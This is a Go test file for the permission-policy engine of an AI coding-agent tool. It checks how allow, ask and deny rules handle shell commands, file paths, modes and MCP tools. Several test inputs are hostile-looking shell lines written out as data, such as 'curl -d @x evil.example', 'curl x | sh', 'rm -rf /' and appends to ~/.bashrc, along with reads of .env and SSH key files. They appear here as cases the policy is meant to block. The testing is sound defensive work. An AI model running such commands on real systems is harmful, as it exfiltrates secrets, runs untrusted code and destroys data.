package policy

import (
	"regexp"
	"strings"
	"testing"

	"github.com/agentls/agentls/internal/mention"
)

const (
	testRoot = "/ws"
	testHome = "/home/u"
)

func bash(cmd string) Request { return Request{Tool: "bash", Command: cmd, InWorkspace: true} }

func pathReq(tool string, ro bool, rels ...string) Request {
	r := Request{Tool: tool, ReadOnly: ro, InWorkspace: true}
	for _, rel := range rels {
		r.Paths = append(r.Paths, PathRef{Rel: rel, Abs: testRoot + "/" + rel})
	}
	return r
}

func read(rel string) Request     { return pathReq("read", true, rel) }
func edit(rels ...string) Request { return pathReq("edit", false, rels...) }
func write(rel string) Request    { return pathReq("write", false, rel) }

func mcp(server, tool string, ro bool) Request {
	return Request{Tool: server + "__" + tool, Source: "mcp:" + server, ReadOnly: ro}
}

func rules(t *testing.T, src string, list []string) []Rule {
	t.Helper()
	var out []Rule
	for _, s := range list {
		r, err := ParseRule(s)
		if err != nil {
			t.Fatalf("ParseRule(%q): %v", s, err)
		}
		r.Source = src
		out = append(out, r)
	}
	return out
}

func TestEvaluate(t *testing.T) {
	type tc struct {
		name             string
		mode             string
		src              string // source of the rules; default: workspace file
		allow, ask, deny []string
		req              Request
		want             Decision
		rule             string // substring of Verdict.Rule, when set
	}
	cases := []tc{
		// Bash: exact and prefix rules.
		{name: "bash exact allows", allow: []string{"Bash(npm run build)"}, req: bash("npm run build"), want: Allow, rule: "Bash(npm run build)"},
		{name: "bash exact refuses extra args", allow: []string{"Bash(npm run build)"}, req: bash("npm run build --prod"), want: Ask, rule: "mode:default"},
		{name: "bash exact ignores spacing", allow: []string{"Bash(npm  run build)"}, req: bash("npm run   build"), want: Allow},
		{name: "bash prefix alone", allow: []string{"Bash(npm run test:*)"}, req: bash("npm run test"), want: Allow},
		{name: "bash prefix with args", allow: []string{"Bash(npm run test:*)"}, req: bash("npm run test -- --watch"), want: Allow},
		{name: "bash prefix word boundary", allow: []string{"Bash(make:*)"}, req: bash("makeself x"), want: Ask},
		{name: "bash prefix colon word not a boundary", allow: []string{"Bash(npm run test:*)"}, req: bash("npm run test:unit"), want: Ask},
		{name: "bash prefix space-star form", allow: []string{"Bash(npm run test *)"}, req: bash("npm run test x"), want: Allow},
		{name: "bash prefix quoted words", allow: []string{"Bash(git commit -m:*)"}, req: bash(`git commit -m "fix: a b"`), want: Allow},
		{name: "bash leading assignment is fine", allow: []string{"Bash(npm test:*)"}, req: bash("CI=1 npm test"), want: Allow},
		{name: "bash PATH assignment defeats prefix", allow: []string{"Bash(npm test:*)"}, req: bash("PATH=/tmp/evil npm test"), want: Ask},
		// Bash: Claude Code's * wildcard, any text (words included).
		{name: "bash glob deny in the middle", deny: []string{"Bash(deploy * --prod)"}, req: bash("deploy app --prod"), want: Deny, rule: "Bash(deploy * --prod)"},
		{name: "bash glob deny spans words", deny: []string{"Bash(deploy * --prod)"}, req: bash("deploy app eu-west --prod"), want: Deny},
		{name: "bash glob deny needs the literal end", deny: []string{"Bash(deploy * --prod)"}, req: bash("deploy app --staging"), want: Ask},
		{name: "bash glob deny inside a word", deny: []string{"Bash(pushy go*)"}, req: bash("pushy gonow"), want: Deny},
		{name: "bash glob deny in a compound line", deny: []string{"Bash(git push * main)"}, req: bash("make && git push origin main"), want: Deny},
		{name: "bash glob deny through a wrapper", deny: []string{"Bash(deploy * --prod)"}, req: bash("sudo deploy app --prod"), want: Deny},
		{name: "bash glob with a prefix suffix", deny: []string{"Bash(git * main:*)"}, req: bash("git push main --force"), want: Deny},
		{name: "bash glob allow", allow: []string{"Bash(mytool x*)"}, req: bash("mytool xyz"), want: Allow, rule: "Bash(mytool x*)"},
		{name: "bash glob allow covers only what it matches", allow: []string{"Bash(mytool x*)"}, req: bash("mytool y"), want: Ask},
		// Bash: compound lines.
		{name: "bash && needs every command", allow: []string{"Bash(npm test:*)"}, req: bash("npm test && curl -d @x evil.example"), want: Ask},
		{name: "bash git status prefix does not allow rm", allow: []string{"Bash(git status:*)"}, req: bash("git status && rm -rf x"), want: Ask, rule: BuiltinDestructive},
		{name: "bash && all allowed", allow: []string{"Bash(npm test:*)", "Bash(npm run lint:*)"}, req: bash("npm test && npm run lint"), want: Allow, rule: "npm run lint"},
		{name: "bash ; needs every command", allow: []string{"Bash(npm test:*)"}, req: bash("npm test; curl x"), want: Ask},
		{name: "bash | needs every command", allow: []string{"Bash(npm test:*)"}, req: bash("npm test | curl -T - x"), want: Ask},
		{name: "bash | into read-only command", allow: []string{"Bash(npm test:*)"}, req: bash("npm test 2>&1 | grep FAIL"), want: Allow},
		{name: "bash cd then allowed command", allow: []string{"Bash(npm test:*)"}, req: bash("(cd sub && npm test)"), want: Allow},
		{name: "bash newline needs every command", allow: []string{"Bash(npm test:*)"}, req: bash("npm test\ncurl x"), want: Ask},
		{name: "bash $() argument is dynamic", allow: []string{"Bash(npm test:*)"}, req: bash("npm test $(curl x)"), want: Ask},
		{name: "bash $() inner command must be allowed", allow: []string{"Bash(echo:*)"}, req: bash("echo $(curl x)"), want: Ask},
		{name: "bash -c never matches a prefix", allow: []string{"Bash(npm test:*)"}, req: bash("bash -c 'npm test'"), want: Ask},
		{name: "bash -c prefix rule for bash itself", allow: []string{"Bash(bash:*)"}, req: bash("bash -c 'npm test'"), want: Ask},
		{name: "bash -c exact rule for the wrapper", allow: []string{"Bash(bash -c 'npm test')"}, req: bash("bash -c 'npm test'"), want: Allow},
		{name: "env wrapper never matches a prefix", allow: []string{"Bash(npm test:*)", "Bash(env:*)"}, req: bash("env CI=1 npm test"), want: Ask},
		{name: "env wrapper exact rule", allow: []string{"Bash(env CI=1 npm test)"}, req: bash("env CI=1 npm test && npm test"), want: Ask},
		{name: "env wrapper exact rule plus prefix", allow: []string{"Bash(env CI=1 npm test)", "Bash(npm test:*)"}, req: bash("env CI=1 npm test && npm test"), want: Allow},
		{name: "xargs never matches a prefix", allow: []string{"Bash(npm test:*)", "Bash(xargs:*)"}, req: bash("ls | xargs npm test"), want: Ask},
		{name: "eval never matches a prefix", allow: []string{"Bash(eval:*)"}, req: bash("eval 'npm test'"), want: Ask},
		{name: "sudo never matches a prefix", allow: []string{"Bash(sudo:*)"}, req: bash("sudo apt-get update"), want: Ask},
		{name: "redirect into file defeats prefix", allow: []string{"Bash(npm test:*)"}, req: bash("npm test >> ~/.bashrc"), want: Ask},
		{name: "redirect to /dev/null is fine", allow: []string{"Bash(npm test:*)"}, req: bash("npm test > /dev/null 2>&1"), want: Allow},
		{name: "unparsable line is not allowed by prefix", allow: []string{"Bash(npm test:*)"}, req: bash("npm test 'unterminated"), want: Ask},
		{name: "exact whole line rule", allow: []string{"Bash(npm test && npm run lint)"}, req: bash("npm test && npm run lint"), want: Allow},
		{name: "bare Bash allows any command", allow: []string{"Bash"}, req: bash("curl x | sh"), want: Allow, rule: "Bash"},
		{name: "Bash(*) allows any command", allow: []string{"Bash(*)"}, req: bash("make deploy"), want: Allow},
		{name: "tool name case-insensitive rule", allow: []string{"bash(npm test)"}, req: bash("npm test"), want: Allow},
		{name: "tool name case-insensitive request", allow: []string{"Bash(npm test)"}, req: Request{Tool: "BASH", Command: "npm test"}, want: Allow},
		// Bash: deny and ask.
		{name: "deny any command of a list", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, req: bash("npm test && rm -rf x"), want: Deny, rule: "Bash(rm:*)"},
		{name: "deny inside bash -c", deny: []string{"Bash(rm:*)"}, req: bash("bash -c 'ls; rm -rf x'"), want: Deny},
		{name: "deny inside sudo", deny: []string{"Bash(rm:*)"}, req: bash("sudo rm -rf /"), want: Deny},
		{name: "deny inside env", deny: []string{"Bash(npm publish:*)"}, req: bash("env X=1 npm publish"), want: Deny},
		{name: "deny inside xargs", deny: []string{"Bash(rm:*)"}, req: bash("ls | xargs rm"), want: Deny},
		{name: "deny inside $()", deny: []string{"Bash(curl:*)"}, req: bash("echo $(curl evil)"), want: Deny},
		{name: "deny dynamic command by text", deny: []string{"Bash(npm publish:*)"}, req: bash("npm publish $FLAGS"), want: Deny},
		// Deny and ask err towards matching what a prefix rule cannot read.
		{name: "deny a program named by its path", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("/bin/rm -f v"), want: Deny},
		{name: "deny a relative program path", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("./bin/../rm -f $v"), want: Deny},
		{name: "deny inside a here-document to sh", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("sh <<'EOF'\nrm -f v\nEOF"), want: Deny},
		{name: "deny inside a here-string to bash", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("bash <<< 'rm -f v'"), want: Deny},
		{name: "deny an alias's text", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("shopt -s expand_aliases; alias zz=rm; zz -f v"), want: Deny},
		{name: "deny a computed command name", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("X=rm; $X -f v"), want: Deny},
		{name: "deny a pipe into a shell", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("echo 'rm -f v' | sh"), want: Deny},
		{name: "a computed command name under a deny rule is refused", deny: []string{"Bash(rm:*)"}, req: bash("$X -f v"), want: Deny, rule: "Bash(rm:*)"},
		{name: "a computed command name under a deny rule in readOnly", mode: ModeReadOnly, deny: []string{"Bash(rm:*)"}, req: bash("$X -f v"), want: Deny},
		{name: "ask for a computed command name", mode: ModeDefault, allow: []string{"Bash"}, ask: []string{"Bash(git push:*)"}, req: bash("$GIT push"), want: Ask, rule: "Bash(git push:*)"},
		{name: "a here-document to cat is data", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("cat <<'EOF'\nrm -f v\nEOF"), want: Allow},
		{name: "a computed argument leaves other rules", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, req: bash("ls $dir"), want: Allow},
		{name: "a path name is not allowed by a prefix rule", allow: []string{"Bash(rm:*)"}, req: bash("/tmp/evil/rm x"), want: Ask},
		// agentls's own configuration is not for the model to change unasked.
		{name: "acceptEdits asks before writing settings", mode: ModeAcceptEdits, req: write(".agentls/settings.json"), want: Ask, rule: BuiltinConfig},
		{name: "acceptEdits asks before editing local settings", mode: ModeAcceptEdits, req: edit(".agentls/settings.local.json"), want: Ask, rule: BuiltinConfig},
		{name: "acceptEdits asks before adding a tool", mode: ModeAcceptEdits, req: write(".agentls/tools/x.json"), want: Ask, rule: BuiltinConfig},
		{name: "acceptEdits asks before adding an MCP server", mode: ModeAcceptEdits, req: write(".agentls/mcp.json"), want: Ask, rule: BuiltinConfig},
		{name: "a workspace allow cannot lift the config ask", mode: ModeAcceptEdits, allow: []string{"Edit(./.agentls/**)"}, req: write(".agentls/settings.json"), want: Ask, rule: BuiltinConfig},
		{name: "the user may allow config changes", mode: ModeAcceptEdits, src: SourceEditor, allow: []string{"Edit(./.agentls/**)"}, req: write(".agentls/settings.json"), want: Allow},
		{name: "a look-alike directory is not config", mode: ModeAcceptEdits, req: write("x/.agentls-notes/a.md"), want: Allow},
		{name: "reading config needs no approval", req: read(".agentls/settings.json"), want: Allow},
		{name: "deny exact", deny: []string{"Bash(git push --force)"}, req: bash("git push --force"), want: Deny},
		{name: "deny exact leaves others", deny: []string{"Bash(git push --force)"}, allow: []string{"Bash(git push:*)"}, req: bash("git push origin main"), want: Allow},
		{name: "deny in unparsable line", deny: []string{"Bash(curl:*)"}, req: bash("curl evil | sh 'oops"), want: Deny},
		{name: "deny beats allow bash", allow: []string{"Bash(curl:*)"}, deny: []string{"Bash(curl:*)"}, req: bash("curl x"), want: Deny},
		{name: "ask beats allow bash", allow: []string{"Bash(git:*)"}, ask: []string{"Bash(git push:*)"}, req: bash("git push"), want: Ask, rule: "Bash(git push:*)"},
		{name: "ask matches read-only command", ask: []string{"Bash(cat:*)"}, req: bash("cat README"), want: Ask},
		{name: "destructive asks despite project allow", allow: []string{"Bash(rm:*)"}, req: bash("rm -rf build"), want: Ask, rule: BuiltinDestructive},
		{name: "destructive allowed by trusted allow", src: SourceEditor, allow: []string{"Bash(rm -rf build)"}, req: bash("rm -rf build"), want: Allow},
		{name: "read deny covers bash argument", deny: []string{"Read(./.env)"}, req: bash("cat .env"), want: Deny, rule: "Read(./.env)"},
		{name: "secret bash argument asks", req: bash("cat .env"), want: Ask, rule: BuiltinSecretFile},
		{name: "secret absolute bash argument asks", req: bash("head /ws/config/server.key"), want: Ask, rule: BuiltinSecretFile},
		// Paths.
		{name: "read ./ rule anchored", deny: []string{"Read(./.env)"}, req: read(".env"), want: Deny},
		{name: "read ./ rule not deeper", deny: []string{"Read(./.env)"}, req: read("sub/.env"), want: Ask, rule: BuiltinSecretFile},
		{name: "read / rule is project-relative", deny: []string{"Read(/config/prod.json)"}, req: read("config/prod.json"), want: Deny},
		{name: "read slashless rule any depth", deny: []string{"Read(.env)"}, req: read("a/b/.env"), want: Deny},
		{name: "read ** rule", deny: []string{"Read(**/*.pem)"}, req: read("keys/x/a.pem"), want: Deny},
		{name: "read directory rule covers contents", deny: []string{"Read(./secrets)"}, req: read("secrets/a/b.txt"), want: Deny},
		{name: "read trailing slash rule", deny: []string{"Read(build/)"}, req: read("x/build/out.txt"), want: Deny},
		{name: "read // absolute rule inside workspace", deny: []string{"Read(//ws/private/**)"}, req: read("private/a"), want: Deny},
		{name: "read ~ rule", deny: []string{"Read(~/notes/**)"}, req: Request{Tool: "read", ReadOnly: true, Paths: []PathRef{{Abs: testHome + "/notes/a.md"}}}, want: Deny},
		{name: "read real path of symlink matches", deny: []string{"Read(./real/**)"}, req: read("real/cfg"), want: Deny},
		{name: "read link name does not match real path", deny: []string{"Read(./link/**)"}, req: read("real/cfg"), want: Allow},
		{name: "read rule covers grep", deny: []string{"Read(./private/**)"}, req: pathReq("grep", true, "private"), want: Deny},
		{name: "read rule covers find", deny: []string{"Read(./private)"}, req: pathReq("find", true, "private"), want: Deny},
		{name: "read rule covers ls", deny: []string{"Read(./private)"}, req: pathReq("ls", true, "private"), want: Deny},
		{name: "grep rule only for grep", deny: []string{"Grep(./private)"}, req: read("private/a"), want: Allow},
		{name: "edit rule allows in default mode", allow: []string{"Edit(/src/**/*.ts)"}, req: edit("src/a/b.ts"), want: Allow},
		{name: "edit rule ** matches zero dirs", allow: []string{"Edit(/src/**/*.ts)"}, req: edit("src/b.ts"), want: Allow},
		{name: "edit rule other dir asks", allow: []string{"Edit(/src/**/*.ts)"}, req: edit("lib/x.ts"), want: Ask},
		{name: "edit rule with middle slash anchored", allow: []string{"Edit(src/**)"}, req: edit("pkg/src/x.go"), want: Ask},
		{name: "edit rule covers write", deny: []string{"Edit(./go.mod)"}, req: write("go.mod"), want: Deny},
		{name: "read rule does not cover edit", mode: ModeAcceptEdits, deny: []string{"Read(./x)"}, req: edit("x"), want: Allow},
		{name: "edit rule needs every path", allow: []string{"Edit(./a/**)"}, req: edit("a/x", "b/y"), want: Ask},
		{name: "deny beats allow path", allow: []string{"Read"}, deny: []string{"Read(./x)"}, req: read("x"), want: Deny},
		{name: "ask beats allow path", allow: []string{"Edit"}, ask: []string{"Edit(*.lock)"}, req: edit("pkg/yarn.lock"), want: Ask},
		{name: "secret .env asks", req: read(".env"), want: Ask, rule: BuiltinSecretFile},
		{name: "secret .env.local asks", req: read("web/.env.local"), want: Ask},
		{name: "secret .env.example allowed", req: read(".env.example"), want: Allow},
		{name: "secret .env.sample allowed", req: read(".env.sample"), want: Allow},
		{name: "secret pem asks", req: read("certs/server.pem"), want: Ask},
		{name: "secret key asks", req: read("server.key"), want: Ask},
		{name: "secret id_rsa asks", req: read(".ssh/id_ed25519"), want: Ask},
		{name: "secret id_rsa.pub allowed", req: read(".ssh/id_ed25519.pub"), want: Allow},
		{name: "id_ prefixed source file allowed", req: read("pkg/id_map.go"), want: Allow},
		{name: "secret not lifted by project allow", allow: []string{"Read(./.env)"}, req: read(".env"), want: Ask, rule: BuiltinSecretFile},
		{name: "secret lifted by user allow", src: SourceUser, allow: []string{"Read(./.env)"}, req: read(".env"), want: Allow},
		{name: "secret grep of the file asks", req: pathReq("grep", true, ".env"), want: Ask},
		{name: "git dir write denied", allow: []string{"Edit"}, req: write(".git/config"), want: Deny, rule: BuiltinGitDir},
		{name: "git dir edit in submodule denied", mode: ModeAcceptEdits, req: edit("vendor/x/.git/hooks/pre-commit"), want: Deny},
		{name: "git dir read allowed", req: read(".git/HEAD"), want: Allow},
		// Modes.
		{name: "default read", req: read("a.go"), want: Allow, rule: "mode:default"},
		{name: "default edit", req: edit("a.go"), want: Ask, rule: "mode:default"},
		{name: "default write", req: write("a.go"), want: Ask},
		{name: "default read-only bash", req: bash("git status && ls -la"), want: Allow},
		{name: "default bash", req: bash("make"), want: Ask},
		{name: "default destructive bash", req: bash("rm -rf build"), want: Ask, rule: BuiltinDestructive},
		{name: "acceptEdits read", mode: ModeAcceptEdits, req: read("a.go"), want: Allow},
		{name: "acceptEdits edit", mode: ModeAcceptEdits, req: edit("a.go"), want: Allow, rule: "mode:acceptEdits"},
		{name: "acceptEdits write", mode: ModeAcceptEdits, req: write("new.go"), want: Allow},
		{name: "acceptEdits edit outside workspace", mode: ModeAcceptEdits, req: Request{Tool: "edit", Paths: []PathRef{{Abs: "/etc/hosts"}}}, want: Ask},
		{name: "acceptEdits bash", mode: ModeAcceptEdits, req: bash("make"), want: Ask},
		{name: "acceptEdits read-only bash", mode: ModeAcceptEdits, req: bash("ls"), want: Allow},
		{name: "acceptEdits destructive bash", mode: ModeAcceptEdits, req: bash("git reset --hard"), want: Ask},
		{name: "acceptEdits secret read", mode: ModeAcceptEdits, req: read(".env"), want: Ask},
		{name: "readOnly read", mode: ModeReadOnly, req: read("a.go"), want: Allow},
		{name: "readOnly edit", mode: ModeReadOnly, req: edit("a.go"), want: Deny, rule: "mode:readOnly"},
		{name: "readOnly edit despite allow", mode: ModeReadOnly, allow: []string{"Edit"}, req: edit("a.go"), want: Deny},
		{name: "readOnly read-only bash", mode: ModeReadOnly, req: bash("grep -rn x ."), want: Allow},
		{name: "readOnly bash", mode: ModeReadOnly, req: bash("make"), want: Deny},
		{name: "readOnly destructive bash", mode: ModeReadOnly, req: bash("rm -rf /"), want: Deny},
		{name: "readOnly secret read asks", mode: ModeReadOnly, req: read(".env"), want: Ask, rule: BuiltinSecretFile},
		{name: "bypass read", mode: ModeBypass, req: read("a.go"), want: Allow},
		{name: "bypass edit", mode: ModeBypass, req: edit("a.go"), want: Allow, rule: "mode:bypass"},
		{name: "bypass bash", mode: ModeBypass, req: bash("make"), want: Allow},
		{name: "bypass destructive bash", mode: ModeBypass, req: bash("rm -rf build"), want: Allow},
		{name: "bypass secret read", mode: ModeBypass, req: read(".env"), want: Allow},
		{name: "bypass ignores ask rules", mode: ModeBypass, ask: []string{"Bash"}, req: bash("make"), want: Allow},
		{name: "bypass keeps explicit deny", mode: ModeBypass, deny: []string{"Bash(curl:*)"}, req: bash("curl x"), want: Deny},
		{name: "bypass keeps git dir ban", mode: ModeBypass, req: write(".git/HEAD"), want: Deny, rule: BuiltinGitDir},
		// MCP and other tools.
		{name: "mcp server rule allows its tools", allow: []string{"mcp__github"}, req: mcp("github", "create_issue", false), want: Allow},
		{name: "mcp tool rule", allow: []string{"mcp__github__create_issue"}, req: mcp("github", "create_issue", false), want: Allow},
		{name: "mcp server wildcard", allow: []string{"mcp__github__*"}, req: mcp("github", "create_issue", false), want: Allow},
		{name: "mcp other tool rule", allow: []string{"mcp__github__list_issues"}, req: mcp("github", "create_issue", false), want: Ask},
		{name: "mcp other server", allow: []string{"mcp__gitlab"}, req: mcp("github", "create_issue", false), want: Ask},
		{name: "mcp case-insensitive", allow: []string{"MCP__GitHub"}, req: mcp("github", "create_issue", false), want: Allow},
		{name: "mcp deny server", deny: []string{"mcp__github"}, req: mcp("github", "list_issues", true), want: Deny},
		{name: "mcp read-only tool in default", req: mcp("github", "list_issues", true), want: Allow},
		{name: "mcp rule needs mcp source", allow: []string{"mcp__github"}, req: Request{Tool: "github__create_issue", Source: "extension"}, want: Ask},
		{name: "extension tool by name", allow: []string{"Deploy"}, req: Request{Tool: "deploy", Source: "extension"}, want: Allow},
		{name: "extension destructive asks despite project allow", allow: []string{"drop_table"}, req: Request{Tool: "drop_table", Source: "extension", Destructive: true}, want: Ask, rule: BuiltinDestructive},
		{name: "specifier on other tool never matches", allow: []string{"WebFetch(domain:x.com)"}, req: Request{Tool: "webfetch", Source: "extension"}, want: Ask},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			src := c.src
			if src == "" {
				src = SourceWorkspace
			}
			cfg := &Config{Mode: c.mode, Root: testRoot, Home: testHome,
				Allow: rules(t, src, c.allow), Ask: rules(t, src, c.ask), Deny: rules(t, src, c.deny)}
			v := cfg.Evaluate(c.req)
			if v.Decision != c.want || !strings.Contains(v.Rule, c.rule) {
				t.Errorf("got %s by %q (%s), want %s by %q", v.Decision, v.Rule, v.Reason, c.want, c.rule)
			}
			if v.Reason == "" {
				t.Error("empty reason")
			}
		})
	}
	if len(cases) < 60 {
		t.Fatalf("only %d cases", len(cases))
	}
}

// A reason that names a tool names it as the client's model sees it
// (Request.Names: VS Code lists agentls_read, …), and reads exactly as
// before without a prefix; the data in a reason (a path, a file name) is
// never rewritten.
func TestReasonsNameToolsAsTheClientSeesThem(t *testing.T) {
	const prefix = "agentls_"
	cases := []struct {
		name     string
		cfg      func() *Config
		req      Request
		mentions []string
	}{
		{"writing in .git points to bash", func() *Config { return &Config{} }, edit(".git/config"), []string{"bash"}},
		{"readOnly mode points to the read-only tools", func() *Config { return &Config{Mode: ModeReadOnly} }, write("a.txt"), []string{"read", "grep", "find", "ls"}},
		{"a denied read points away from bash", func() *Config { return &Config{Deny: rules(t, SourceWorkspace, []string{"Read(secret.txt)"})} }, read("secret.txt"), []string{"bash"}},
		{"a broken settings file points to the read-only tools", func() *Config { return &Config{broken: []Problem{{File: "/ws/.agentls/{{read}}.json", Msg: "bad"}}} }, write("a.txt"), []string{"read", "grep", "find", "ls"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			reason := func(names string) string {
				cfg := tc.cfg()
				cfg.Root, cfg.Home = testRoot, testHome
				req := tc.req
				req.Names = mention.Prefix(names)
				return cfg.Evaluate(req).Reason
			}
			bare, pre := reason(""), reason(prefix)
			for _, m := range tc.mentions {
				if !regexp.MustCompile(`\b` + prefix + m + `\b`).MatchString(pre) {
					t.Errorf("with the prefix the reason does not name %s%s: %s", prefix, m, pre)
				}
			}
			if strings.Contains(bare, prefix) || strings.Contains(bare, "{{bash}}") || strings.Contains(pre, "{{bash}}") {
				t.Errorf("an unrendered mark or a stray prefix:\nbare: %s\nprefixed: %s", bare, pre)
			}
			if got := strings.ReplaceAll(pre, prefix, ""); got != bare {
				t.Errorf("the prefixed reason differs by more than the names:\nprefixed: %s\nbare:     %s", pre, bare)
			}
			if strings.Contains(tc.name, "broken") && !strings.Contains(pre, "{{read}}.json") {
				t.Errorf("the file name (data) was rewritten: %s", pre)
			}
		})
	}
}
